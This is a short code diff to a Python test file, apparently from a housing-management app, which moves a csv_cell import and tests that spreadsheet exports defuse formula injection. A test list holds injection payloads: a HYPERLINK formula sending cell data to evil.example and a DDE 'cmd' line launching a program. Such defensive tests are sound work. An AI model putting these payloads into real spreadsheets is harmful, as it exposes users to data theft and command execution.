@@ -9,7 +9,6 @@ from openpyxl import load_workbook
 
 from server.extensions import db
 from server.models import User
-from server.services.spreadsheet_text import csv_cell
 from tests.server.web.helpers import make_house, make_units, make_user, sign_in, unit
 
 NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
@@ -62,4 +61,6 @@ def test_report_unit_names_and_signer_are_text(app):
 
 
 def test_csv_cell_leaves_numbers_alone():
+    from server.services.spreadsheet_text import csv_cell
+
     assert csv_cell(-5) == -5 and csv_cell(-2.5) == -2.5 and csv_cell("-5") == "'-5" and csv_cell("") == ""
